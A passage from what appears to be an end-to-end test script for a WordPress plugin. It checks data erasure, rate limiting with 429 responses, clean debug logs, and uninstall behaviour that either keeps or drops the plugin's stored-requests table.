    eq(JSON.parse(cli('privacy', 'erase', 'race@example.com')).items_removed, true, 'erased');
    eq(total(), before - 1, 'rows left');
  });

  await check('rate limit: too many requests from one connection get 429 with Retry-After', async () => {
    cli('option-set', 'mn_widgets_settings', JSON.stringify({ ...JSON.parse(cli('option-get', 'mn_widgets_settings')), rate_limit: 1 }));
    let r;
    for (let i = 0; i < 3 && r?.status !== 429; i++) r = await post(payload());
    eq(r.status, 429, 'status');
    assert(Number(r.headers.get('retry-after')) > 0, 'Retry-After');
    assert(r.json.error, 'error text');
  });

  await check('no PHP warnings or notices from the plugin', () => {
    const text = existsSync(wp.debugLog) ? readFileSync(wp.debugLog, 'utf8') : '';
    const ours = text.split('\n').filter((l) => l.includes('/plugins/mn-widgets/'));
    eq(ours, [], 'debug.log lines');
  });

  await check('uninstall keeps stored requests by default and removes the options', () => {
    const rows = total();
    cli('deactivate', PLUGIN);
    cli('uninstall', PLUGIN);
    eq(JSON.parse(cli('option-get', 'mn_widgets_settings')), null, 'settings option');
    eq(total(), rows, 'requests kept');
  });

  await check('uninstall with "delete stored requests" drops the table', () => {
    cli('install-zip', ZIP);
    cli('activate', PLUGIN);
    cli('option-set', 'mn_widgets_settings', JSON.stringify({ uninstall: 'delete' }));
    cli('deactivate', PLUGIN);
    cli('uninstall', PLUGIN);
    eq(JSON.parse(cli('sql-scalar', "SHOW TABLES LIKE 'wp_mn_widgets_requests'")), null, 'table');
    eq(JSON.parse(cli('option-get', 'mn_widgets_settings')), null, 'settings option');
  });

  await admin.ctx.close();
  ok = failed === 0;
} catch (e) {
  failed++;
  console.log(`not ok - harness: ${e?.stack ?? e}`);
} finally {
  await cleanup();
  if (!ok && wp) console.log(`(kept ${wp.dir} for a look: debug.log, run/mariadbd.err)`);
  log(`done in ${((Date.now() - t0) / 1000).toFixed(1)} s`);
  console.log(`${passed} passed, ${failed} failed`);
  process.exit(failed ? 1 : 0);
}
